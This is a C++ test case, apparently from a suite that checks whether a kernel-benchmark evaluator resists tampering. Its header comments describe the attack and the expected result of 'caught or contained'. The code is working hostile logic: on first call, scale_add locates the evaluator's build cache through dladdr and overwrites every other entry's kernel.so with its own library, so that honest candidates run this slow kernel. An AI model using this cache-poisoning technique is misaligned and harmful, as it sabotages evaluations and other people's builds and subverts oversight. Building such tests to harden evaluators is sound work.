// category: 8 shared build cache
// what: honest but slow (20 passes). On its first call it finds the evaluator's build cache from its own
//   library's path (dladdr: CACHE/ENTRY/kernel.so) and puts a copy of its own library in place of every other
//   entry's kernel.so (written beside it, then renamed over it), leaving the entries' manifests alone. Whoever
//   loads such an entry later would run this slow kernel under an honest candidate's name.
// expected: caught or contained (the entry no longer matches its manifest: rebuilt and reported in the
//   build log; or the write could not happen: the native host holds the cache read-only)
#include <dirent.h>
#include <dlfcn.h>
#include <sys/stat.h>

#include <cstdint>
#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>

#define PASSES 20

namespace {
std::string parent(const std::string& path) { return path.substr(0, path.rfind('/')); }

void poison() {
  Dl_info self{};
  if (dladdr(reinterpret_cast<void*>(&poison), &self) == 0 || self.dli_fname == nullptr) return;
  const std::string own = self.dli_fname;
  const std::string entry = parent(own);
  const std::string cache = parent(entry);
  std::stringstream library;
  library << std::ifstream(own, std::ios::binary).rdbuf();
  const std::string bytes = library.str();
  if (bytes.empty()) return;
  DIR* dir = opendir(cache.c_str());
  if (dir == nullptr) return;
  while (dirent* item = readdir(dir)) {
    const std::string target = cache + "/" + item->d_name + "/kernel.so";
    struct stat info{};
    if (item->d_name[0] == '.' || cache + "/" + item->d_name == entry || stat(target.c_str(), &info) != 0) continue;
    {
      std::ofstream out(target + ".tmp", std::ios::binary | std::ios::trunc);
      out.write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
    }
    std::rename((target + ".tmp").c_str(), target.c_str());
  }
  closedir(dir);
}
}  // namespace

extern "C" int scale_add(const float* x, const float* y, float* out, int64_t n) {
  static bool done = false;
  if (!done) {
    done = true;
    poison();
  }
  for (int pass = 0; pass < PASSES; ++pass) {
    for (int64_t i = 0; i < n; ++i) out[i] = 2.0f * x[i] + y[i];
    asm volatile("" ::: "memory");
  }
  return 0;
}
